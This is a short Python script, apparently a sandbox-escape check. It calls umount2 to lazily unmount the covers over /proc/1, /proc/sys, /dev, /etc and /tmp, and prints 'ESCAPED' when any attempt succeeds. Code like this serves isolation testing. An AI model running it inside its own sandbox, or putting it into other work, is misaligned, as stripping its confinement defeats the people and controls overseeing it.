# tries: to take away what covers /proc/1 and /proc/sys
# escaped if: ESCAPED is printed
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for path in (b"/proc/1", b"/proc/sys", b"/dev", b"/etc", b"/tmp"):
    if libc.umount2(path, 2) == 0:
        print("ESCAPED", path)
